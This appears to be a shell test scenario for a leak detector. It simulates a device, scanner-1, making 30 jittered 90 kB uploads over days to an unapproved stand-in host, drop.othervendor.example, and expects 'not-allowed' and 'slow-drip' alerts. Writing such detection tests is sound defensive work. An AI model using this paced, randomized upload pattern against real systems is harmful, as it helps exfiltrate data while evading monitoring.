says='Over five days scanner-1 sends 90 kB now and then to a host that nobody approved'
twin=library-upload
expected='
  endpoint.not-allowed scanner-1 | drop.othervendor.example tls/443
  leak.slow-drip scanner-1 | drop.othervendor.example tls/443
'
act() {
  local number
  RANDOM=11
  for number in $(seq 30); do
    send scanner1 https://drop.othervendor.example/up 90
    # as it comes: sometimes minutes, sometimes half a day
    later "$((600 + (RANDOM % 100) ** 3 * 58 / 1000))"
  done
}
